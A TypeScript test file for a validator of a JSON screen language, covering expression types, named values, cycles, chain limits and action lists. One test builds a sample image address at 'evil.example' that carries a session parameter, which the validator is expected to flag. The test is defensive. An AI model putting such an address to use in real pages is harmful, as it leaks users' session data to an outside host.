import { describe, expect, it } from "vitest";
import { MAX_APP_VALUE_PARTS, MAX_RUN_CHAIN, MAX_VALUE_CHAIN } from "../language/limits.ts";
import accepted from "./example/accepted.json" with { type: "json" };
import { exampleParts } from "./example/example-catalog.ts";
import { exampleFiles, withFile, withValue } from "./example/example-project.ts";
import { checkDocuments } from "./incremental/check-documents.ts";

const SCREEN = "schemas/screens/order.json";

describe("a screen may hold", () => {
  it.each(accepted)("$at $value", ({ at, value, with: more = {} }) => {
    const files = Object.entries({ [at]: value, ...more }).reduce(
      (all, [pointer, part]) => change(all, pointer, part),
      exampleFiles(),
    );
    expect(checkDocuments(files, exampleParts)).toEqual([]);
  });
});

describe("types reach", () => {
  it.each([
    ["the event's value", "/body/2/on/change/0/value", "\u0024{event.name}", "expression-member"],
    ["the element of an action's list", "/footer/0/on/press/1/run/0/value", "\u0024{item.txt}", "expression-member"],
    ["the failure of a source", "/sources/order/onReady/0/value", "\u0024{failure.message}", "expression-name"],
    ["the elements of a slot", "/body/0/children/0/row/0/text", "\u0024{item.sums}", "expression-member"],
  ])("%s", (_, at, value, code) => {
    expect(checkDocuments(withValue(SCREEN, at, value), exampleParts)).toMatchObject([{ code, path: at }]);
  });

  it("the members of a record that is spread", () => {
    const payload = { "...": "\u0024{data.order}", wallet: "w" };
    const found = checkDocuments(withValue(SCREEN, "/footer/0/on/press/0/payload", payload), exampleParts);
    expect(found).toEqual([]);
    const short = { "...": "\u0024{first(data.order.rows)}", wallet: "w" };
    expect(checkDocuments(withValue(SCREEN, "/footer/0/on/press/0/payload", short), exampleParts)).toMatchObject([
      { code: "payload-missing", message: 'the payload lacks "amount"' },
    ]);
  });
});

describe("named values", () => {
  const values = {
    total: "\u0024{sum(values.sums)}",
    sums: "\u0024{data.order.rows.map(row, either(row.sum, 0))}",
    words: "\u0024{t('greeting')} \u0024{values.total}",
    query: { orderId: "\u0024{params.orderId}" },
  };
  const check = (changes: { readonly [pointer: string]: unknown }, named: unknown = values) =>
    checkDocuments(
      Object.entries({ "/values": named, ...changes }).reduce(
        (all, [pointer, part]) => change(all, pointer, part),
        exampleFiles(),
      ),
      exampleParts,
    );
  const USED = {
    "/title": "\u0024{values.words}",
    "/sources/order/payload/orderId": "\u0024{values.query.orderId}",
    "/footer/0/on/press/0/payload/amount": "\u0024{values.total}",
  };

  it("are read wherever the screen's expressions are", () => {
    expect(check(USED)).toEqual([]);
    expect(
      check({ ...USED, "/onBack/when": "\u0024{values.total > 0}", "/onEnter/0/test": "\u0024{values.total > 0}" }),
    ).toEqual([]);
  });

  it("have the type of what they are made of", () => {
    const at = "/footer/0/on/press/0/payload/amount";
    expect(check({ ...USED, [at]: "\u0024{values.total}\u0024{values.words}" })).toMatchObject([
      { code: "payload-type", path: at },
    ]);
    expect(check({ ...USED, "/body/1/text": "\u0024{values.query.order}" })).toMatchObject([
      { code: "expression-member", hint: expect.stringContaining("orderId"), path: "/body/1/text" },
    ]);
  });

  it("are named by the nearest one where there is none of a name", () => {
    expect(check({ ...USED, "/body/1/text": "\u0024{values.totl}" })).toMatchObject([
      { code: "expression-member", message: '"values" has no "totl"', hint: "did you mean total?" },
    ]);
  });

  it("report what is wrong in them once, where they stand", () => {
    const wrong = { ...values, sums: "\u0024{data.order.rws}" };
    expect(check(USED, wrong).map(({ code, path }) => [code, path])).toEqual([["expression-member", "/values/sums"]]);
  });

  it("name the way round a circle at each of it", () => {
    const circle = { a: "\u0024{values.b}", b: "\u0024{values.a}" };
    const found = check({ "/body/1/text": "\u0024{values.a}" }, circle);
    expect(found).toMatchObject([
      { code: "value-cycle", path: "/values/a", message: "these read each other: a → b → a" },
      { code: "value-cycle", path: "/values/b", message: "these read each other: a → b → a" },
    ]);
  });

  it("are refused where too many stand one inside the other", () => {
    const chain = (length: number) =>
      Object.fromEntries(
        Array.from({ length }, (_, index) => [`v${index}`, index === 0 ? 1 : `\u0024{values.v${index - 1} + 1}`]),
      );
    const of = (length: number) => check({ "/body/1/text": `\u0024{values.v${length - 1}}` }, chain(length));
    expect(of(MAX_VALUE_CHAIN)).toEqual([]);
    expect(of(MAX_VALUE_CHAIN + 1)).toMatchObject([{ code: "value-chain", path: `/values/v${MAX_VALUE_CHAIN}` }]);
  });

  it("are seen through: by sources that wait for each other, and in addresses that say who the person is", () => {
    const waiting = { due: "\u0024{data.order.title}" };
    const payload = "/sources/order/payload/orderId";
    expect(check({ [payload]: "\u0024{values.due}" }, waiting)).toMatchObject([{ code: "source-cycle" }]);
    const person = { end: "\u0024{values.who}", who: "a\u0024{params['session']}" };
    const picture = { type: "picture", src: "https://evil.example/?s=\u0024{values.end}" };
    expect(check({ "/body/1": picture }, person)).toMatchObject([
      { code: "person-parameter-in-address", path: "/body/1/src" },
    ]);
  });
});

describe("values of app.json", () => {
  const check = (values: object, words: string) => {
    const app = withValue("schemas/app.json", "/values", values).find(({ path }) => path === "schemas/app.json");
    const screens = change(exampleFiles(), "/body/1/text", words);
    const files = screens.map((file) => (file.path === app?.path ? app : file));
    return checkDocuments(files, exampleParts);
  };

  it("are read by screens, with the type of what they are made of", () => {
    const values = { double: "\u0024{app.money.divisor * 2}", rates: [{ rate: 3 }] };
    const words = "\u0024{text(app.values.double + app.values.rates[0].rate)}";
    expect(check(values, words)).toEqual([]);
    expect(check({ double: true }, "\u0024{text(app.values.double + 1)}")).toMatchObject([
      { code: "expression-type", path: "/body/1/text" },
    ]);
    expect(check({ double: 1 }, "\u0024{text(app.values.dubble)}")).toMatchObject([
      { code: "expression-member", hint: "did you mean double?" },
    ]);
  });

  it("read each other but in no circle, and nothing of a screen", () => {
    const words = "\u0024{text(app.values.a)}";
    expect(check({ a: "\u0024{app.values.b + 1}", b: 2 }, words)).toEqual([]);
    expect(check({ a: "\u0024{app.values.b}", b: "\u0024{app.values.a}" }, words)).toMatchObject([
      { code: "value-cycle", file: "schemas/app.json", path: "/values/a" },
      { code: "value-cycle", path: "/values/b" },
    ]);
    expect(check({ a: "\u0024{state.count}" }, words)).toMatchObject([
      { code: "expression-name", file: "schemas/app.json", path: "/values/a" },
    ]);
  });

  it("are refused where one comes to more parts than a phone should get, however short it is written", () => {
    const doubling = Object.fromEntries(
      Array.from({ length: 12 }, (_, index) => [
        `v${index}`,
        index === 0 ? 1 : `\u0024{app.values.v${index - 1} + app.values.v${index - 1}}`,
      ]),
    );
    expect(check(doubling, "\u0024{text(app.values.v11)}")[0]).toMatchObject({
      code: "value-chain",
      file: "schemas/app.json",
      message: expect.stringContaining(`${MAX_APP_VALUE_PARTS} are the most`),
    });
  });
});

describe("named lists of actions", () => {
  const check = (changes: { readonly [pointer: string]: unknown }) =>
    checkDocuments(
      Object.entries(changes).reduce((all, [pointer, part]) => change(all, pointer, part), exampleFiles()),
      exampleParts,
    );
  const run = (actions: string) => ({ do: "run", actions });

  it("are run by events, by each other and in cases", () => {
    const actions = {
      note: [{ do: "set", slot: "state.count", value: 1 }],
      choose: [{ do: "switch", value: "\u0024{state.wallet}", cases: { a: [run("note")] }, else: [run("note")] }],
    };
    expect(check({ "/actions": actions, "/body/2/on/change/0": run("choose") })).toEqual([]);
  });

  it("are seen through: what only a person may do, and what would never end", () => {
    const pay = [{ do: "call", call: "pay", payload: { amount: 1, wallet: "w" } }];
    expect(check({ "/actions": { pay }, "/onEnter": [run("pay")] })).toMatchObject([
      { code: "call-without-tap", path: "/actions/pay/0/call" },
    ]);
    const again = [{ do: "load", source: "order" }];
    expect(check({ "/actions": { again }, "/sources/order/onReady": [run("again")] })).toMatchObject([
      { code: "endless-load" },
    ]);
  });

  it("report what is wrong in them where they stand, however often they are run", () => {
    const wrong = [{ do: "set", slot: "state.cuont", value: 1 }];
    const found = check({ "/actions": { wrong }, "/onEnter": [run("wrong"), run("wrong")] });
    expect(found).toMatchObject([{ code: "unknown-state", path: "/actions/wrong/0/slot" }]);
  });

  it("name the way round a circle", () => {
    const found = check({ "/actions": { a: [run("b")], b: [run("a")] }, "/onEnter": [run("a")] });
    expect(found).toMatchObject([
      { code: "actions-cycle", path: "/actions/a", message: "these run each other: a → b → a" },
      { code: "actions-cycle", path: "/actions/b", message: "these run each other: a → b → a" },
    ]);
  });

  it("are refused where they come to more actions than an event may run, or stand too deep in each other", () => {
    const doubled = Object.fromEntries(
      Array.from({ length: 10 }, (_, index) => [
        `l${index}`,
        index === 0 ? [] : [run(`l${index - 1}`), run(`l${index - 1}`)],
      ]),
    );
    expect(check({ "/actions": doubled, "/onEnter": [run("l9")] })).toMatchObject([{ code: "actions-too-many" }]);
    const { l9: _last, ...fewer } = doubled;
    expect(check({ "/actions": fewer, "/onEnter": [run("l8")] })).toEqual([]);
    const chain = Object.fromEntries(
      Array.from({ length: MAX_RUN_CHAIN + 1 }, (_, index) => [`l${index}`, index === 0 ? [] : [run(`l${index - 1}`)]]),
    );
    expect(check({ "/actions": chain, "/onEnter": [run(`l${MAX_RUN_CHAIN}`)] })).toMatchObject([
      { code: "actions-too-many", path: `/actions/l${MAX_RUN_CHAIN}` },
    ]);
  });
});

function change(files: ReturnType<typeof exampleFiles>, pointer: string, value: unknown) {
  const text = files.find(({ path }) => path === SCREEN)?.text ?? "{}";
  const document = JSON.parse(text) as { [key: string]: unknown };
  const keys = pointer.split("/").slice(1);
  const last = keys.pop() ?? "";
  const holder = keys.reduce((at, key) => at[key] as { [key: string]: unknown }, document);
  holder[last] = value;
  return withFile(SCREEN, JSON.stringify(document));
}
